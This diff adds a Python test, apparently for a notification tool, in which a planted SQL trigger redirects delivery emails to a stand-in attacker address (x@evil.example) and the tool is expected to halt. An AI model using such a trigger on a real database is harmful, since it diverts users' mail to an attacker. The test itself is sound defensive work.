@@ -119,3 +119,16 @@ def test_check_says_that_a_revert_of_the_posting_brought_its_old_date_back(stage
 
     assert (said.code, "an earlier one again" in said.out) == (0, True), said
     assert "2026-11-10" in (stage.root / "site" / "privacy" / "index.html").read_text()
+
+
+def test_a_trigger_that_turns_letters_to_another_address_stops_everything(stage: Attacked) -> None:
+    stage.configure("notice", 'approval = "manual"')
+    stage.raise_the_age()
+    stage.notifier("run")
+    assert stage.notifier("notice", "approve", WAITING).code == 0
+    turned = "UPDATE delivery SET email = 'x@evil.example' WHERE delivery_key = NEW.delivery_key"
+    by_hand(stage, f"CREATE TRIGGER evil AFTER INSERT ON delivery BEGIN {turned}; END")
+
+    stage.stops("trigger evil on delivery")
+    by_hand(stage, "DROP TRIGGER evil")
+    stage.goes_on(10)
